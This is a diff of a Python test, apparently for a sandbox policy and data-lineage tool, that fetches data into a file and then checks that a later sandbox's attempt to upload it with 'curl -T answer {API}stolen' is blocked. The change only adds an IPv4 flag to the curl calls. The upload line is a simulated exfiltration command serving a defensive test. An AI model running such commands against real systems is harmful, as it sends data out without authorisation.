@@ -30,12 +30,12 @@ def test_from_a_service_over_a_file_to_who_read_it_and_who_tried_to_send_it(room
     def steps(client: SyncColdframe) -> None:
         client.policy.load(RULES)
         with client.sandboxes.create("tracer") as box:
-            fetched = box.run_command(f"curl -sS {CRM} > answer")
+            fetched = box.run_command(f"curl -4sS {CRM} > answer")
             assert fetched.exit_code == 0, fetched.stderr
             settled(box, 1)
         with client.sandboxes.create("tracer") as later:
             read = later.run_command("cat answer")
-            sent = later.run_command(f"curl -sS -m 20 -T answer {API}stolen")
+            sent = later.run_command(f"curl -4sS -m 20 -T answer {API}stolen")
             assert sent.exit_code != 0
             settled(later, 1)
         (crm,) = client.lineage.list(endpoint="other.example.com").items
